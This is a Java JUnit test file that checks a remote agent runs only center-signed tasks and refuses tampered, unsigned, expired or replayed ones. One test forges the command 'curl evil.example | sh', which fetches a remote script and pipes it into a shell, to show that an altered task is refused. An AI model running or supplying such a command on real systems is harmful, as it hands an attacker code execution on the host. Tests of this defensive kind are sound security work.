package dev.orrery.agent.core.internal;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.orrery.agent.api.TaskHandler;
import dev.orrery.agent.api.TaskOutcome;
import dev.orrery.api.ErrorCode;
import dev.orrery.api.HostTaskState;
import dev.orrery.protocol.Message.Ack;
import dev.orrery.protocol.Message.AckKind;
import dev.orrery.protocol.Message.Hello;
import dev.orrery.protocol.Message.Result;
import dev.orrery.protocol.Message.Task;
import dev.orrery.protocol.TaskSigning;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The agent runs only what the center signed for it: tasks relayed by a channel (a MINA acceptor in
 * the test, real sockets) that passes them on unchanged run; altered, unsigned, expired, replayed or
 * misaddressed ones are refused with their own codes and nothing is run.
 */
class SignedTaskTest extends AgentFixture {
    private final AtomicInteger spawned = new AtomicInteger();

    @BeforeEach
    void commandHandler() {
        handlers.add((r, c) -> {
            spawned.incrementAndGet();
            return TaskOutcome.succeeded("ran " + r.param("command", ""));
        }, Map.of(TaskHandler.TYPE, "cmd", "service.id", 20L));
        channel.awaitFirst(Hello.class, x -> true);
    }

    /** The channel's relay step: what the center sent, passed to the agent's session after {@code inTransit}. */
    private void relay(Task fromCenter, UnaryOperator<Task> inTransit) {
        channel.broadcast(inTransit.apply(fromCenter));
    }

    private Result resultOf(String taskId) {
        return channel.awaitFirst(Result.class, r -> r.taskId().equals(taskId));
    }

    private static Task cmd(String id, String command) {
        return task(id, "cmd", Map.of("command", command));
    }

    private void assertRefused(String taskId, ErrorCode code) {
        Result r = resultOf(taskId);
        assertEquals(code.name(), r.errorCode(), r.errorMessage());
        assertEquals(HostTaskState.FAILED, r.state());
        assertEquals(0, spawned.get(), "nothing may run");
        assertTrue(channel.all(Ack.class).stream().noneMatch(a -> a.taskId().equals(taskId) && a.kind() == AckKind.RUNNING));
    }

    @Test
    void aSignedTaskRelayedUnchangedRuns() {
        relay(cmd("ok-1", "uptime"), UnaryOperator.identity());
        Result r = resultOf("ok-1");
        assertEquals(HostTaskState.SUCCEEDED, r.state(), r.errorMessage());
        assertEquals(1, spawned.get());
    }

    @Test
    void aChannelThatAltersACommandInTransitIsRefused() {
        relay(cmd("alt-1", "uptime"), t -> {
            Map<String, String> forged = new HashMap<>(t.params());
            forged.put("command", "curl evil.example | sh");
            return new Task(t.taskId(), t.hostId(), t.taskType(), forged, t.body(), t.timeoutSeconds(), t.seal());
        });
        assertRefused("alt-1", ErrorCode.TASK_SIGNATURE_INVALID);
    }

    @Test
    void anUnsignedTaskIsRefused() {
        relay(cmd("uns-1", "uptime"), t -> t.withSeal(null));
        assertRefused("uns-1", ErrorCode.TASK_UNSIGNED);
    }

    @Test
    void aTaskSignedWithAnotherKeyIsRefused() {
        Task t = new Task("key-1", ID.hostId(), "cmd", Map.of("command", "uptime"), null, 30);
        var other = TaskSigning.generateKeyPair();
        var tree = dev.orrery.protocol.MerkleTree.of(TARGETS);
        Task.Seal seal = TaskSigning.seal(other.getPrivate(), t.taskId(), t.taskType(), t.params(), t.body(), 30,
                System.currentTimeMillis() + 60_000, tree);
        relay(t.withSeal(seal.forHost(tree.proof(ID.hostId()).orElseThrow())), UnaryOperator.identity());
        assertRefused("key-1", ErrorCode.TASK_SIGNATURE_INVALID);
    }

    @Test
    void anExpiredTaskIsRefused() {
        relay(signed(new Task("exp-1", ID.hostId(), "cmd", Map.of("command", "uptime"), null, 30),
                System.currentTimeMillis() - 1_000), UnaryOperator.identity());
        assertRefused("exp-1", ErrorCode.TASK_EXPIRED);
    }

    @Test
    void aTaskNamingAnotherHostIsRefusedAsAReplay() {
        // correctly signed for host-1, delivered to this agent
        relay(signed(new Task("mis-1", "host-1", "cmd", Map.of("command", "uptime"), null, 30),
                System.currentTimeMillis() + 60_000), UnaryOperator.identity());
        assertRefused("mis-1", ErrorCode.TASK_REPLAYED);
    }

    @Test
    void anotherHostsProofUnderThisHostsNameIsRefused() {
        Task forHost1 = signed(new Task("prf-1", "host-1", "cmd", Map.of("command", "uptime"), null, 30),
                System.currentTimeMillis() + 60_000);
        relay(forHost1, t -> new Task(t.taskId(), ID.hostId(), t.taskType(), t.params(), t.body(), t.timeoutSeconds(), t.seal()));
        assertRefused("prf-1", ErrorCode.TASK_SIGNATURE_INVALID);
    }

    @Test
    void aReplayAfterTheResultWasStoredIsRefused() {
        Task t = cmd("rep-1", "uptime");
        relay(t, UnaryOperator.identity());
        assertEquals(HostTaskState.SUCCEEDED, resultOf("rep-1").state());
        // the fake channel answers every result STORED; wait until the agent's ledger recorded it
        await().atMost(Duration.ofSeconds(5)).until(() -> agentStored("rep-1"));
        relay(t, UnaryOperator.identity());
        await().atMost(Duration.ofSeconds(5)).until(() -> results("rep-1").size() == 2);
        Result second = results("rep-1").get(1);
        assertEquals(ErrorCode.TASK_REPLAYED.name(), second.errorCode());
        assertEquals(1, spawned.get(), "ran once");
    }

    @Test
    void aResendBeforeStoredIsAnsweredNotRunAgain() throws Exception {
        channel.close();
        channel = FakePeer.channel(0, false); // the center never stores
        offered.set(List.of(channel.address()));
        agent.stop();
        agent = new Agent(settings(center.port(), "tok-1"), ID, handlers);
        agent.start();
        channel.awaitFirst(Hello.class, x -> true);
        Task t = cmd("res-1", "uptime");
        relay(t, UnaryOperator.identity());
        resultOf("res-1");
        relay(t, UnaryOperator.identity()); // the center resends: receipt and result again
        await().atMost(Duration.ofSeconds(5)).until(() -> channel.all(Ack.class).stream()
                .filter(a -> a.taskId().equals("res-1") && a.kind() == AckKind.RECEIVED).count() == 2);
        await().atMost(Duration.ofSeconds(5)).until(() -> results("res-1").size() >= 2);
        assertTrue(results("res-1").stream().allMatch(r -> r.state() == HostTaskState.SUCCEEDED));
        assertEquals(1, spawned.get());
    }

    @Test
    void unsignedTasksRunWhenNotRequired() throws Exception {
        agent.stop();
        TaskTrust.Settings lax = new TaskTrust.Settings(false, data.resolve("center-task-key.pem"), false);
        agent = new Agent(settings(center.port(), "tok-1"), lax, ID, handlers);
        agent.start();
        await().atMost(Duration.ofSeconds(10)).until(() -> channel.all(Hello.class).size() >= 2);
        relay(cmd("lax-1", "uptime"), t -> t.withSeal(null));
        assertEquals(HostTaskState.SUCCEEDED, resultOf("lax-1").state());
        relay(cmd("lax-2", "uptime"), t -> new Task(t.taskId(), t.hostId(), t.taskType(), Map.of("command", "id"), null, 30,
                t.seal()));
        assertEquals(ErrorCode.TASK_SIGNATURE_INVALID.name(), resultOf("lax-2").errorCode(), "a signature present must verify");
    }

    private List<Result> results(String taskId) {
        return channel.all(Result.class).stream().filter(r -> r.taskId().equals(taskId)).toList();
    }

    private boolean agentStored(String taskId) throws Exception {
        return new TaskJournal(data.resolve("ledger"), 1 << 20).ackedAt(taskId, ID.hostId()) > 0;
    }
}
